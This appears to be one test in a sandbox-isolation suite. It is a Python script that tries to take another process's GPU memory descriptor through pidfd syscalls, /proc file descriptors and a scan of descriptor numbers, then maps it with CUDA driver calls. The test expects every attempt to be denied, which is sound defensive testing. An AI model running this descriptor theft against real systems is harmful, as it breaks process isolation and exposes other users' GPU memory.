# 68 ipc_overreach
# attempts: to take the descriptor by which another process on the GPU exports memory, and to find one among its own that leads to
#   memory which it was not given
# required: DENIED
# on: gpu
# beside: _68_victim.py
import ctypes
import gc
import os
import secrets
import torch
from attack import attempt, custom_kernel, say, syscall
from gpu import check

PID, NUMBER, _ = "@BESIDE@".split(":")
torch.zeros(1, device="cuda")


class Access(ctypes.Structure):
    """CUmemAccessDesc: device 0 may read and write."""
    _fields_ = [("type", ctypes.c_int), ("device", ctypes.c_int), ("flags", ctypes.c_int)]


def given():
    """(address, bytes) of the GPU's memory that the isolated engine shares with this process."""
    areas = [one for one in gc.get_objects() if type(one).__name__ == "Area"]
    return [(area.memories[0].address, area.memories[0].bytes) for area in areas if area.memories[0]]


def mapped(memory, size):
    place, whole = ctypes.c_uint64(), ctypes.c_size_t(size)
    check("cuMemAddressReserve", ctypes.byref(place), whole, ctypes.c_size_t(0), ctypes.c_uint64(0), ctypes.c_uint64(0))
    check("cuMemMap", place, whole, ctypes.c_size_t(0), memory, ctypes.c_uint64(0))
    check("cuMemSetAccess", place, whole, ctypes.byref(Access(1, 0, 3)), ctypes.c_size_t(1))
    return place


def is_same(memory, address, size):
    """Whether what is written there shows here."""
    try:
        place = mapped(memory, size)
    except OSError:
        return False  # it has another size
    written, read = ctypes.c_uint64(secrets.randbits(64)), ctypes.c_uint64()
    check("cuMemcpyHtoD_v2", place, ctypes.byref(written), ctypes.c_size_t(8))
    check("cuMemcpyDtoH_v2", ctypes.byref(read), ctypes.c_uint64(address), ctypes.c_size_t(8))
    return read.value == written.value


def import_descriptor(descriptor):
    memory = ctypes.c_uint64()
    check("cuMemImportFromShareableHandle", ctypes.byref(memory), ctypes.c_void_p(descriptor), 1)
    if any(is_same(memory, *place) for place in given()):
        say(f"descriptor {descriptor} is of memory that it was given: {os.readlink(f'/proc/self/fd/{descriptor}')}")
        return None
    return f"{os.readlink(f'/proc/self/fd/{descriptor}')}; it was given {[size for _, size in given()]} bytes"


def take_descriptor():
    return import_descriptor(syscall(438, syscall(434, int(PID), 0), int(NUMBER), 0))


attempt("take the descriptor", take_descriptor)
attempt("open the descriptor in /proc", lambda: import_descriptor(open(f"/proc/{PID}/fd/{NUMBER}").fileno()))
for number in range(3, 256):
    attempt(f"import descriptor {number}", import_descriptor, number)
